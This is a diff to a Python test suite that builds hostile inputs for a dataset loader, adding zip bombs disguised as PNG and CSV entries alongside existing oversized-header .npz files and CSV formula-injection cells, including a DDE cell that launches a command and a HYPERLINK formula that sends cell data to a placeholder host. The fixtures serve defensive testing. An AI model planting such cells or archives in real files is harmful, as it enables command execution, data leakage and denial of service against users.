@@ -115,7 +115,8 @@ def _(tmp: Path) -> Path:
     return _npz(tmp / "h.npz", train_images=_IMAGES, train_labels=np.array([[np.inf], [0.0]]))
 
 
-@hostile("npz-image-header-claims-1e9-rows", "bounded", r"train_images claims shape \(1000000000, 28, 28\).*784 bytes")
+@hostile("npz-image-header-claims-1e9-rows", "bounded",
+         r"train_images claims shape \(1000000000, 28, 28\).*784 bytes")
 def _(tmp: Path) -> Path:
     return _raw_npz(tmp / "h.npz", {
         "train_images.npy": _npy_bytes((10**9, 28, 28), "u1", bytes(784)),
@@ -152,3 +153,34 @@ for _name, _cell in (("csv-cmd-dde", "=cmd|' /C calc'!A0"), ("csv-plus-formula",
                      ("csv-tab-then-formula", "\t=1+1"), ("csv-cr-then-formula", "\r=1+1"),
                      ("csv-hyperlink", '=HYPERLINK("http://example.invalid/?"&A1,"open")')):
     hostile(_name, "csv")(lambda tmp, cell=_cell: cell)
+
+
+# -- 3. zip bombs with honest headers; archives carrying files no reader uses -----------------------
+def _zip_with_images(path: Path, extra: dict[str, bytes]) -> Path:
+    """A real two-class image folder (3 PNGs per class) zipped, plus `extra` entries (deflated)."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for cls in ("yes", "no"):
+            for i in range(3):
+                image = write_image(path.parent / "src" / cls / f"{cls}-{i}.png", size=(16, 16), seed=i + len(cls))
+                zf.write(image, f"{cls}/{cls}-{i}.png")
+        for name, data in extra.items():
+            zf.writestr(name, data)
+    return path
+
+
+@hostile("zip-60MB-of-non-image-data", "zip-extract")
+def _(tmp: Path) -> Path:
+    return _zip_with_images(tmp / "up.zip", {"notes/zeros.bin": bytes(60_000_000), "README.txt": b"hello"})
+
+
+@hostile("zip-honest-bomb-as-png", "zip-refuse",
+         r"up\.zip: [\d,]+ compressed bytes would expand to 40,[\d,]+ bytes \(\d+:1\) for 7 image\(s\).*zip bomb")
+def _(tmp: Path) -> Path:
+    return _zip_with_images(tmp / "up.zip", {"yes/zeros.png": bytes(40_000_000)})
+
+
+@hostile("zip-honest-bomb-as-csv", "zip-refuse",
+         r"up\.zip: [\d,]+ compressed bytes would expand to 30,[\d,]+ bytes \(\d+:1\) for 6 image\(s\).*zip bomb")
+def _(tmp: Path) -> Path:
+    return _zip_with_images(tmp / "up.zip", {"labels.csv": b"path,label\n" + b" " * 30_000_000})
